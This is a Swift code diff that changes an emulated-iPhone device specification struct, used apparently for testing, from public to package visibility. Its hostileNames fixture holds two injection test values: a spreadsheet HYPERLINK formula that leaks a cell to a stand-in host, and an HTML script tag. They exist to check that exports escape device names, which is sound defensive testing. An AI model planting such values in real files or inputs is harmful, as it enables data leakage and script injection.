@@ -1,15 +1,15 @@
 import LaunchBench
 
 /// Who an emulated iPhone says it is: the lockdown values the real libimobiledevice reads.
-public struct EmulatedDeviceSpec: Sendable, Hashable {
+package struct EmulatedDeviceSpec: Sendable, Hashable {
     /// Dashed 25-character form (`00008030-001A2D4E0C38802E`), as libusbmuxd reports modern UDIDs.
-    public var udid: String
-    public var name: String
-    public var productType: String
-    public var osVersion: String
-    public var buildVersion: String
+    package var udid: String
+    package var name: String
+    package var productType: String
+    package var osVersion: String
+    package var buildVersion: String
 
-    public init(udid: String, name: String, productType: String, osVersion: String, buildVersion: String? = nil) {
+    package init(udid: String, name: String, productType: String, osVersion: String, buildVersion: String? = nil) {
         self.udid = udid
         self.name = name
         self.productType = productType
@@ -18,7 +18,7 @@ public struct EmulatedDeviceSpec: Sendable, Hashable {
     }
 
     /// A device numbered `index` (1-based) with a stable, distinct UDID.
-    public static func numbered(_ index: Int, productType: String, osVersion: String) -> EmulatedDeviceSpec {
+    package static func numbered(_ index: Int, productType: String, osVersion: String) -> EmulatedDeviceSpec {
         let model = DeviceModels.marketingName(for: productType)
         let serial = String(UInt64(0x001A_2D4E_0C38_8000) &+ UInt64(index), radix: 16, uppercase: true)
         let padded = String(repeating: "0", count: max(0, 16 - serial.count)) + serial
@@ -29,20 +29,20 @@ public struct EmulatedDeviceSpec: Sendable, Hashable {
 
     /// Device names that attack the exports (users set device names, and lockdown reports them verbatim):
     /// a spreadsheet formula, and HTML markup with quotes, an ampersand and a comma.
-    public static let hostileNames = [
+    package static let hostileNames = [
         "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Open me\")",
         "<script>alert(\"pwned\")</script> & \"Bob's\", <b>iPhone</b>",
     ]
 
     /// The same device under another name (`DeviceName`).
-    public func named(_ name: String) -> EmulatedDeviceSpec {
+    package func named(_ name: String) -> EmulatedDeviceSpec {
         var copy = self
         copy.name = name
         return copy
     }
 
     /// The device as the core model sees it.
-    public var info: DeviceInfo {
+    package var info: DeviceInfo {
         DeviceInfo(udid: udid, name: name, productType: productType, osVersion: osVersion, buildVersion: buildVersion)
     }
 
